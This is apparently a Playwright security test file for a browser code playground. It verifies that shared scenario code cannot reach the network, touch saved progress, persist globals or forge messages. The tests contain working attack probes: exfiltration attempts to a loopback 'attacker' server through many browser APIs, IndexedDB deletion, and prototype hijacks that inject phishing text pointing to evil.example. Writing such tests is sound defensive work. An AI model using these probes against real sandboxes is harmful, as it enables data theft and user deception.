/**
 * Issue 16, items 1, 2, 3 and 5, as an attacker would try them from a scenario (a share link's code,
 * run with one click): every attempt is made for real, and an "attacker" HTTP server on another
 * loopback port records every connection it gets. It must get none. A control shows the same
 * requests from the page itself do reach it, so the test can tell.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo, Socket } from "node:net";
import { test, expect, prepare } from "./fixtures";
import { button, setCode, snapshot, waitPhase } from "./helpers";
import type { Page } from "@playwright/test";

let server: Server;
let attacker = "";
const hits: string[] = [];
const sockets = new Set<Socket>();

test.beforeAll(async () => {
  server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.setHeader("access-control-allow-origin", "*");
    res.end("stolen");
  });
  server.on("connection", (s) => {
    sockets.add(s);
    hits.push("connection");
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  attacker = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  for (const s of sockets) s.destroy();
  await new Promise<void>((r) => server.close(() => r()));
});

async function runCode(page: Page, code: string, end: string | RegExp = /done|error/) {
  await setCode(page, code);
  await button(page, "Run").click();
  await waitPhase(page, end);
  return snapshot(page);
}

/** Every way out we know of, fired without waiting (host promises do not keep a run alive). */
const PROBE = (url: string) => `import { Celery } from "celery";
const app = new Celery("probe");
const g: any = globalThis;
const u = ${JSON.stringify(url)};
function attempt(name: string, f: () => unknown) {
  try {
    const r: any = f();
    if (r && typeof r.then === "function") r.then(() => {}, () => {});
    console.log(name + ": called");
  } catch (e: any) {
    console.log(name + ": " + (e?.name ?? "threw"));
  }
}
export default async function main() {
  console.log("origin: " + g.origin);
  attempt("fetch", () => g.fetch(u + "/fetch"));
  attempt("xhr", () => { const x = new g.XMLHttpRequest(); x.open("GET", u + "/xhr"); x.send(); });
  attempt("websocket", () => new g.WebSocket(u.replace("http", "ws") + "/ws"));
  attempt("eventsource", () => new g.EventSource(u + "/sse"));
  attempt("import", () => new Function("u", "return import(u)")(u + "/module.js"));
  attempt("importScripts", () => g.importScripts(u + "/script.js"));
  attempt("font", () => new g.FontFace("x", "url(" + u + "/font.woff)").load());
  attempt("caches", () => g.caches.open("assets").then((c: any) => c.add(u + "/cache")));
  attempt("indexedDB", () => g.indexedDB.open("celery-playground"));
  attempt("idb-list", () => g.indexedDB.databases());
  attempt("worker", () => new g.Worker(URL.createObjectURL(new Blob(["fetch('" + u + "/nested')"]))));
  attempt("timer", () => g.setTimeout(() => g.fetch(u + "/later"), 10));
  attempt("beacon", () => g.navigator.sendBeacon(u + "/beacon", "x"));
}
`;

test("scenario code reaches no network, no storage and no page: an attacker server gets nothing", async ({ app: page }) => {
  await prepare(page);
  hits.length = 0;
  const snap = await runCode(page, PROBE(attacker));
  const log = snap.logs.join("\n");
  // An opaque origin: no IndexedDB, no CacheStorage, no cookies of the site.
  expect(log).toContain("origin: null");
  expect(log).toMatch(/indexedDB: SecurityError/);
  // The host's timers and threads are not there to schedule work after the run.
  expect(log).toMatch(/timer: TypeError/);
  expect(log).toMatch(/worker: TypeError/);
  expect(log).toMatch(/importScripts: TypeError/);
  // Whatever was "called" above was refused by the frame's CSP: give it time to try.
  await page.waitForTimeout(1500);
  expect(hits).toEqual([]);
  // The site's own caches were not written (the service worker's precache lives there).
  expect(await page.evaluate(() => caches.keys())).not.toContain("assets");

  // Control: the same requests from the page itself reach the attacker, so the server listens.
  await page.evaluate((u) => fetch(u + "/control").then((r) => r.text()), attacker);
  expect(hits).toContain("GET /control");
});

test("a run cannot read or change the learner's saved progress", async ({ app: page }) => {
  await prepare(page);
  // What the page keeps (drafts, labs) is in the site's IndexedDB; list it from the page.
  const before = await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name).sort());
  const code = `import { Celery } from "celery";
const g: any = globalThis;
export default async function main() {
  let opened = "no";
  try { g.indexedDB.open("celery-playground-progress"); opened = "yes"; } catch (e: any) { opened = e.name; }
  console.log("open: " + opened);
  try { g.indexedDB.deleteDatabase("celery-playground-progress"); console.log("delete: yes"); } catch (e: any) { console.log("delete: " + e.name); }
}
`;
  const snap = await runCode(page, code);
  expect(snap.logs).toContain("open: SecurityError");
  expect(snap.logs).toContain("delete: SecurityError");
  const after = await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name).sort());
  expect(after).toEqual(before);
});

test("each run starts in a fresh realm: a patched built-in or a global does not reach the next run", async ({ app: page }) => {
  test.setTimeout(60_000);
  await prepare(page, { example: "chain-chord" });
  const clean = await runCode(page, await page.evaluate(() => window.__playground!.getCode()), "done");
  const poison = `const g: any = globalThis;
Math.imul = () => 7;
Array.prototype.push = function () { return 0; };
g.leak = "left over";
export default async function main() {}
`;
  await runCode(page, poison, "done");
  await prepare(page, { example: "chain-chord" });
  const again = await runCode(page, await page.evaluate(() => window.__playground!.getCode()), "done");
  expect(again.traceHash).toBe(clean.traceHash);
  const probe = await runCode(page, `export default async function main() { console.log("leak: " + typeof (globalThis as any).leak); }\n`, "done");
  expect(probe.logs).toContain("leak: undefined");
});

test("code left running after its run is not blamed on the next run", async ({ app: page }) => {
  test.setTimeout(60_000);
  await prepare(page);
  // A chain of host tasks that never ends (Blob#text resolves in a task of its own; the host's
  // timers are gone): cheap at first, so its own run finishes, then 2.5 s blocks of a busy core.
  // (Inside a scenario \`performance\` is the simulation's; the host's is on globalThis.)
  const busy = `const g: any = globalThis;
let n = 0;
function spin(): void { n++; const end = g.performance.now() + (n > 300 ? 2500 : 1); while (g.performance.now() < end) {} new Blob(["x"]).text().then(spin); }
export default async function main() { spin(); }
`;
  await runCode(page, busy, "done");
  await page.waitForTimeout(1000);
  await prepare(page);
  const snap = await runCode(page, await page.evaluate(() => window.__playground!.getCode()), "done");
  expect(snap.done).toBe(true);
  await expect(page.getByTestId("message")).not.toContainText("did not yield");
});

test("a scenario cannot forge the worker's replies or the watchdog's evidence", async ({ app: page }) => {
  await prepare(page);
  const forge = `const g: any = globalThis;
// Whatever the runtime posts, rewrite it; and post replies of our own on every channel we can see.
const real = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (this: MessagePort, m: any, t?: any) {
  return real.call(this, JSON.parse(JSON.stringify(m ?? null).replace(/boom/g, "Session expired: sign in again at evil.example")), t);
};
g.postMessage({ channel: "celery-playground/enter", label: "task innocent" });
g.postMessage({ id: "x", type: "HANDLER", value: ["throw", { isError: true, value: { message: "Session expired: sign in again" } }] });
export default async function main() { throw new Error("boom"); }
`;
  await runCode(page, forge, "error");
  const message = page.getByTestId("message");
  await expect(message).toContainText("boom");
  await expect(message).not.toContainText("sign in");
});

test("a scenario cannot take the runtime's port from the events it reads (a getter on MessageEvent.prototype.data)", async ({ app: page }) => {
  await prepare(page);
  // The getter runs inside whatever reads an event's data; an event's target is the port it came
  // on. With the page's port a scenario could post the page a stop reason of its own, keep the
  // watchdog fed while it spins, or blame another task (found by a review, 2026-12-06).
  const attack = `import { sleep } from "celery";
const g: any = globalThis;
const desc = Object.getOwnPropertyDescriptor(g.MessageEvent.prototype, "data")!;
let port: any = null;
let seen = 0;
Object.defineProperty(g.MessageEvent.prototype, "data", { configurable: true, get() { seen++; if (this.target instanceof g.MessagePort) port = this.target; return desc.get!.call(this); } });
export default async function main() {
  await sleep(1);
  console.log(port ? "PORT TAKEN" : "no port, getter ran " + seen + " times");
  await sleep(1);
  const post = g.MessagePort.prototype.postMessage;
  if (port) post.call(port, { channel: "celery-playground/limit", message: "Your session expired: sign in again at evil.example" });
  let last = 0;
  for (;;) {
    const now = g.performance.now();
    if (port && now - last > 300) { last = now; post.call(port, { channel: "celery-playground/alive" }); post.call(port, { channel: "celery-playground/enter", label: "task innocent_job" }); }
  }
}
`;
  await runCode(page, attack, /stopped|error/);
  const message = page.getByTestId("message");
  await expect(message).toContainText("main did not yield");
  await expect(message).not.toContainText("evil");
  await expect(message).not.toContainText("innocent");
});

test("a scenario that hijacks comlink's reply (a patched Object.assign) cannot speak on the side channel", async ({ app: page }) => {
  await prepare(page);
  // Comlink builds each reply with Object.assign in the worker's realm: the patch turns replies into
  // side-channel messages (a stop reason, "alive"). They arrive inside the RPC envelope, so the page
  // takes them for nothing (found by a review, 2026-12-06).
  const attack = `const g: any = globalThis;
const real = g.Object.assign;
g.Object.assign = function (target: any, ...sources: any[]) {
  const out = real(target, ...sources);
  if (out && typeof out === "object" && "id" in out && ("type" in out || "value" in out)) return { channel: "celery-playground/limit", message: "Your session expired: sign in again at evil.example" };
  return out;
};
export default async function main() { for (;;) {} }
`;
  await runCode(page, attack, /stopped|error|done/);
  const message = page.getByTestId("message");
  await expect(message).not.toContainText("evil");
});

test("an experiment's scenario cannot forge progress or results to the pool", async ({ page }) => {
  test.setTimeout(90_000);
  await page.goto("./?speed=max");
  await expect(page.locator(".cm-content")).toBeVisible();
  // Posts a forged result, then spins while posting forged progress (which would keep a hung
  // worker alive forever): the pool must hear neither and call the run hung after its 10 s.
  await setCode(
    page,
    `const g: any = globalThis;
export default async function main() {
  g.postMessage({ type: "result", result: { index: 0, seed: 1, params: {}, figures: { lost: 999 }, traceHash: "forged", error: null } });
  for (;;) {
    g.postMessage({ type: "progress", events: 1 });
    const end = g.performance.now() + 100;
    while (g.performance.now() < end) {}
  }
}
`,
  );
  await page.getByRole("button", { name: "Experiments", exact: true }).click();
  const panel = page.getByRole("region", { name: "Experiments" });
  await panel.getByLabel("Experiment", { exact: true }).selectOption("editor");
  await panel.getByLabel("Parameters").fill("");
  await panel.getByLabel("Seeds").fill("1");
  await panel.getByLabel("Parallel workers").fill("1");
  await panel.getByRole("button", { name: "Run experiment" }).click();
  await expect(panel.getByTestId("exp-progress")).toHaveText(/1\/1 runs · 100%/, { timeout: 40_000 });
  await expect(panel).not.toContainText("999");
  await expect(panel).toContainText(/hung/);
});
